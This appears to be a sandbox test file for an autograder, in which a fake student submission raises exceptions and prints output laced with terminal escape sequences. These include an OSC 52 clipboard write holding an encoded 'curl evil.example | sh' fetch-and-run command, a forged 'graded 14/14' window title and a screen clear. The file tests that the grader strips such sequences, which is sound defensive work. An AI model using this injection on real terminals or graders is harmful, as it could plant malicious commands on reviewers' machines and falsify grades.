# exercise: ex01
# item: extra
# verdict: score 0; escape sequences in printed output and exception messages reach the feedback only as harmless replacement characters
# expect_score: 0
# max_score_granted: 0
# expect_message: clipboard
# budget_s: 0
# layers: bubblewrap unshare rlimits
"""Smuggle terminal escape sequences into the feedback the instructor reads in a terminal.

The exception messages and the printed output (shown after a crash) carry OSC 52 (write the
terminal's clipboard), a window-title change and a screen clear. The grader replaces every
control character in text that comes from the child, so the feedback holds the words, not the
sequences.
"""
import os
import sys

import numpy as np

ESC = "\x1b"
OSC52 = ESC + "]52;c;" + "Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==" + "\x07"  # "curl evil.example | sh"
EVIL = OSC52 + ESC + "]0;graded 14/14\x07" + ESC + "[2J" + "\x9b31m"


def confusion_matrix(y_true, y_pred, num_classes):
    raise LookupError("clipboard " + EVIL)


def accuracy(cm):
    print(EVIL * 10, file=sys.stderr, flush=True)
    os._exit(3)  # a crash: the end of the output is shown with the verdict


def precision(cm):
    raise RuntimeError("clipboard " + EVIL)


recall = specificity = f1_score = precision
